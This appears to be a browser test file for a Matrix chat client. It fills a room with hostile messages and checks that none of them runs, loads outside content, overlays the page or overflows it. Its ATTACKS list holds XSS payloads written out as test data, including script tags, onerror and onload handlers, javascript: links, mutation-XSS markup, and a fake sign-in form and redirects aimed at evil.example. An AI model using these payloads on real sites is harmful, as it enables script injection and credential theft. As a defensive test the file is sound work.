// What somebody writes who wishes ill: nothing runs, nothing is loaded, nothing is refused by the policy, and all of it fits.
import assert from "node:assert/strict";
import { axe, overflows } from "../browser.mjs";
import { choose, composer, enter, message, panel, person, roomPath, timeline } from "../talk.mjs";

const TURNED = "\u202eetirw uoy nac siht\u202c";
const LONG = "W".repeat(10_000);
const EMOJI = "👩‍👩‍👧‍👦🏳️‍🌈🇫🇷👍🏿".repeat(250);
const MARKED = `Z${"\u0300\u0301\u0302\u0303".repeat(60)}algo`;

/** Each would run, load, cover or leave, were it taken as it is. */
const ATTACKS = [
  "<script>globalThis.broken = true</script>",
  '<img src="https://evil.example/track.png" onerror="globalThis.broken = true">',
  "<img/src=x/onerror=globalThis.broken=true>",
  "<svg onload=globalThis.broken=true><style>*{display:none}</style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.broken=true&gt;">',
  '<a href="javascript:globalThis.broken=true" onclick="globalThis.broken=true">press</a>',
  '<a href=" jav\tascript:globalThis.broken=true">press</a>',
  '<iframe srcdoc="<script>parent.broken=true</script>"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  '<b style="position:fixed;inset:0;background:red;z-index:9999" id="app" class="menu">over all</b>',
  "<details open ontoggle=globalThis.broken=true><summary>x</summary>y</details>",
  '<video src="https://evil.example/x" autoplay onloadstart="globalThis.broken=true"></video>',
  "<a x'y style=\"position:fixed\" onclick=globalThis.broken=true>odd</a>",
  `<pre><code>${LONG}</code></pre><table><tr>${"<td>wide column</td>".repeat(60)}</tr></table>`,
  "<blockquote>".repeat(300) + "deep" + "</blockquote>".repeat(300),
  "<h1>".repeat(50) + "large" + "</h1>".repeat(50),
  `<span data-mx-color="#ffffff" data-mx-bg-color="#fffffe">unseen</span><span data-mx-spoiler="${LONG}">spoiled</span>`,
];

const WORDS = [LONG, EMOJI, TURNED, MARKED, `${"\n".repeat(400)}down here`, `https://example.org/${"a".repeat(4_000)}`, "\u0000\u0007\u2028\u2066\u2067", "/me ".repeat(50)];

/** A room in which everything is as bad as it can be. */
async function badRoom(salon, name) {
  const victim = await person(salon, name, "Victim");
  const room = await victim.createRoom({ preset: "private_chat", name: `${TURNED} ${"Überlänge".repeat(24)}`.slice(0, 250), topic: `${EMOJI} ${LONG}`.slice(0, 4_000) });
  const names = [TURNED, LONG.slice(0, 255), EMOJI.slice(0, 250), MARKED, "<img src=x onerror=alert(1)>"];
  const trolls = await Promise.all(names.map((displayname, index) => person(salon, `${name}-troll${index}`, displayname)));
  for (const troll of trolls) {
    await victim.act(room, "invite", { user_id: troll.id });
    await troll.act(room, "join");
  }
  for (const [index, html] of ATTACKS.entries()) await trolls[index % trolls.length].say(room, `attack ${index}`, { format: "org.matrix.custom.html", formatted_body: html });
  for (const [index, body] of WORDS.entries()) await trolls[index % trolls.length].say(room, body);
  const file = { msgtype: "m.file", body: `${TURNED}${LONG}.exe`.slice(0, 8_000), url: "mxc://localhost/nothing", info: { size: -1, mimetype: "text/html" } };
  await trolls[1].send(room, "m.room.message", file);
  await trolls[2].send(room, "m.room.message", { msgtype: "m.image", body: LONG, url: "javascript:alert(1)", info: { w: 1e9, h: -5, mimetype: "image/svg+xml" } });
  await trolls[3].send(room, "m.room.message", { msgtype: 7, body: { not: "a text" } });
  const last = await trolls[0].say(room, "the end", { "m.relates_to": { "m.in_reply_to": { event_id: "$nothing" } } });
  for (const [index, key] of [LONG.slice(0, 2_000), EMOJI.slice(0, 300), TURNED, "<b>b</b>"].entries()) {
    await trolls[index].send(room, "m.reaction", { "m.relates_to": { rel_type: "m.annotation", event_id: last, key } });
  }
  await victim.act(room, "ban", { user_id: trolls[4].id, reason: `${TURNED}${LONG}`.slice(0, 3_000) });
  return { victim, room, trolls };
}

/** Looks at the conversation and all that stands beside it. */
async function withstand(browser, salon, name, screen) {
  const { victim, room, trolls } = await badRoom(salon, name);
  const { page, faults } = await enter(browser, salon, victim, "/rooms", screen);
  const outside = [];
  page.on("request", (request) => new URL(request.url()).host.startsWith("127.0.0.1") || request.url().startsWith("blob:") || outside.push(request.url()));
  const look = async (what) => {
    assert.deepEqual(await axe(page), [], `${what} ${JSON.stringify(screen)}`);
    assert.equal(await overflows(page), false, `${what} is too wide: ${JSON.stringify(screen)}`);
  };
  await page.goto(roomPath(room));
  await message(page, "the end").waitFor();
  await look("the newest");
  // Up through all of it, to where it began.
  for (let turn = 0; turn < 60 && !(await message(page, "attack 0").count()); turn += 1) {
    await timeline(page).evaluate((log) => log.scrollBy(0, -1_500));
    await page.waitForTimeout(50);
  }
  await look("the oldest");
  await timeline(page).evaluate((log) => log.scrollBy(0, -9_000));
  await look("the beginning");
  for (const beside of ["members", "settings", `person/${trolls[0].id}`, `person/${trolls[1].id}`]) {
    await page.goto(roomPath(room, beside));
    await panel(page).getByRole("button").nth(2).waitFor();
    await panel(page).getByText(beside === "settings" ? /Permissions/ : /@hostile/).first().waitFor();
    await look(beside);
  }
  await page.goto(roomPath(room));
  await choose(page, "the end", /Who reacted|Qui a réagi/);
  await page.getByRole("dialog").waitFor();
  await look("who reacted");
  assert.equal(await page.evaluate(() => globalThis.broken), undefined);
  assert.equal(await page.locator("[onerror], [onload], [onclick], a[href^='javascript:'], iframe, object, embed, form input[name=password]").count(), 0);
  assert.equal(await timeline(page).locator("img:not([src^='blob:'])").count(), 0);
  assert.deepEqual(outside, []);
  assert.deepEqual(faults, []);
}

export const stories = {
  "hostile words neither run, load, cover nor overflow, on a desktop": ({ browser, salon }) => withstand(browser, salon, "hostile-d", { colorScheme: "dark" }),
  "hostile words neither run, load, cover nor overflow, on a phone": ({ browser, salon }) => withstand(browser, salon, "hostile-p", { size: "phone", locale: "fr-FR" }),

  "one who is hostile in writing harms nobody but their own composer": async ({ browser, salon }) => {
    const writer = await person(salon, "hostile-w", "Writer");
    const room = await writer.createRoom({ preset: "private_chat", name: "Paper" });
    const { page, faults } = await enter(browser, salon, writer, roomPath(room), { size: "phone" });
    await composer(page).fill("x".repeat(60_000));
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await page.getByText("too long for a message").waitFor();
    await page.getByRole("button", { name: "Send as a file" }).click();
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await message(page, "message.txt").waitFor();
    await composer(page).fill(`**${"*_`~[<".repeat(2_000)}`);
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await message(page, "~[<").waitFor();
    assert.equal(await overflows(page), false);
    assert.deepEqual(faults, []);
  },
};
